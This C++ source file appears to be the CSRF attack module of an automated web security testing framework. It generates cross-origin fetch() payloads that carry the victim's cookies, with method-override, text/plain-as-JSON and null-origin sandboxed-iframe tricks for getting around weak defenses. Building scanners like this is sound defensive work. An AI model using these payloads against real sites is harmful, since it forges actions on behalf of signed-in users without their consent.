// csrf-fetch: requests of a script on another origin. What is "simple" is sent without a question
// and acted upon although nobody may read the answer; what is not, such as JSON or PATCH, needs a
// preflight that says yes, and then even the token can be read first (Fetch, "CORS protocol").
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/page_script.h"

namespace parapet::attack {
namespace {

constexpr std::string_view kForm = "application/x-www-form-urlencoded";
// As fetch writes it for URLSearchParams; it is "simple", too.
constexpr std::string_view kFormInUtf8 = "application/x-www-form-urlencoded;charset=UTF-8";
constexpr std::string_view kJson = "application/json";

class CsrfFetch final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = sibling_host(target);
        if (evil == nullptr) evil = any_host(target);
        std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
        if (evil == nullptr || endpoints.empty()) return;
        std::vector<OwnForm> own = look_at_forms(target, endpoints, As::Attacker);
        look_for_telling_script(target, own.front());
        std::vector<std::string> scripts;
        for (std::size_t i = 0; i < endpoints.size(); ++i)
            add_scripts(scripts, target, *endpoints[i], own[i]);
        if (!victim_signs_in(target)) return;
        target.wait(std::chrono::minutes(3));
        Lure lure(target, *evil);
        for (std::string const& each : scripts) lure.show("<script>" + each + "</script>");
        read_from_nowhere(target, *endpoints.front(), own.front());
        // Who may read is perhaps told by the name alone.
        for (OwnHost* host : target.hosts())
            if (host != evil && may_read(own.front()))
                Lure(target, *host)
                    .show("<script>" + act_script(target, *endpoints.front(), own.front()) +
                          "</script>");
        target.note("A script on " + evil->name() + " sent requests with the victim's cookies.");
    }

    static void add_scripts(std::vector<std::string>& to, Target const& target,
                            Endpoint const& endpoint, OwnForm const& own) {
        std::string const address = address_of(target, endpoint);
        std::string const overridden = address + "?_method=" + endpoint.method;
        auto fields = wanted_fields(endpoint);
        if (endpoint.method != "POST") fields.push_back({"_method", endpoint.method});
        std::string const form = http::serialize_query(fields);
        std::string const json = json_object(fields);
        bool const is_post = endpoint.method == "POST";
        std::string const& simple = is_post ? address : overridden;
        to.push_back(simple_fetch(simple, form, kForm) + ";" + simple_fetch(simple, json, "") +
                     ";" + simple_fetch(simple, form, kFormInUtf8) + ";" +
                     fetch_script("POST", simple, kForm, script_string(form)));
        to.push_back(fetch_script(endpoint.method, address, kJson, script_string(json)));
        if (!is_post)
            to.push_back(fetch_script(endpoint.method, address, kForm, script_string(form)));
        if (is_json(endpoint))
            // To the browser this is text/plain, and to a careless server JSON (MIME Sniffing
            // Standard, "essence").
            // Bytes have no type at all.
            to.push_back(simple_fetch(simple, json, "text/plain;application/json") + ";" +
                         typeless_fetch(simple, json));
        if (!may_read(own)) return;
        to.push_back(act_script(target, endpoint, own));
        if (own.script.empty() || own.told == OwnForm::Told::InScript) return;
        OwnForm in_page = own;
        in_page.script.clear();
        to.push_back(act_script(target, endpoint, in_page));
    }

    // The origin of a sandboxed frame is "null", which is allowed to read by whoever thinks that it
    // is nobody.
    static void read_from_nowhere(Target& target, Endpoint const& endpoint, OwnForm const& own) {
        OwnHost* const host = foreign_host(target);
        if (host == nullptr || !may_read(own)) return;
        std::string const html = "<script>" + act_script(target, endpoint, own) + "</script>";
        Lure(target, *host)
            .show("<iframe sandbox=\"allow-scripts\" srcdoc=" + in_quotes(html) + "></iframe>");
    }

    static bool may_read(OwnForm const& own) {
        return !own.before_token.empty() || !own.headers.empty();
    }

    static bool is_json(Endpoint const& endpoint) {
        return !endpoint.parameters.empty() &&
               endpoint.parameters.front().place == Place::JsonField;
    }

    static std::string typeless_fetch(std::string const& address, std::string const& body) {
        return "fetch(" + script_string(address) +
               ",{method:\"POST\",mode:\"no-cors\",credentials:\"include\",body:"
               "new TextEncoder().encode(" +
               script_string(body) + ")})";
    }

    // A body of type text is sent as text/plain. Accept may be said without a question, too: who
    // asks for JSON is no app for it.
    static std::string simple_fetch(std::string const& address, std::string const& body,
                                    std::string_view type) {
        std::string const headers =
            ",headers:{accept:\"application/json\"" +
            (type.empty() ? "" : ",\"content-type\":\"" + std::string(type) + "\"") + "}";
        return "fetch(" + script_string(address) +
               ",{method:\"POST\",mode:\"no-cors\",credentials:\"include\"" + headers +
               ",body:" + script_string(body) + "})";
    }
};

}  // namespace

std::unique_ptr<Agent> make_csrf_fetch() { return std::make_unique<CsrfFetch>(); }

}  // namespace parapet::attack
